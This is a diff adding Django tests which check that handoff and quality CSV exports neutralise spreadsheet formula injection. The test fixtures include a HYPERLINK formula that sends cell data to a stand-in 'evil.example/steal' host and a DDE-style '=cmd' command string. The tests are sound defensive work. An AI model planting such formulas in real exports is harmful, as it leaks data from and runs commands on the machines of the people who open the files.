@@ -407,3 +407,43 @@ def timezone_now():
     from django.utils import timezone
 
     return timezone.now()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/steal?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]
+
+
+def _no_formula_cells(rows: list[list[str]]) -> list[str]:
+    return [cell for row in rows for cell in row if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_the_handoff_csv_neutralises_formulas(client, manager, make_incident, agent, engineer, now):
+    """A rejection reason and names written as formulas reach the CSV as text."""
+    agent.first_name, agent.last_name = "=cmd|' /C calc'!A0", "@evil"
+    agent.save()
+    team = TeamFactory(name="+Team", slug="plus-team", members=[agent])
+    case = make_incident(team=team)
+    for reason in FORMULAS:
+        hand_built_handoff(
+            case, from_user=agent, from_team=team, to_user=engineer, offered_at=now,
+            status=HandoffStatus.REJECTED, answered_after=timedelta(minutes=3), responded_by=engineer,
+            rejection_reason=reason,
+        )  # fmt: skip
+    client.force_login(manager)
+    rows = _csv(client.get(CSV))
+    assert _no_formula_cells(rows) == []
+    reasons = {row[-1] for row in rows[1:]}
+    assert reasons == {"'" + reason for reason in FORMULAS}
+    assert any(cell.startswith("'=cmd") for row in rows for cell in row)
+
+
+def test_the_quality_csv_neutralises_formulas(client, manager, make_incident, agent, engineer, now):
+    agent.first_name = "-2+3"
+    agent.save()
+    team = TeamFactory(name="=Team", slug="eq-team", members=[agent])
+    case = make_incident(team=team)
+    hand_built_handoff(case, from_user=agent, from_team=team, to_user=engineer, offered_at=now)
+    client.force_login(manager)
+    rows = _csv(client.get(reverse("escalations:manage-handoff-quality-csv"), {"period": "all"}))
+    assert _no_formula_cells(rows) == []
+    assert ["Team", "'=Team"] == rows[1][:2]
+    assert any(row[:2] == ["Person", "'-2+3"] or row[1].startswith("'-2+3") for row in rows)
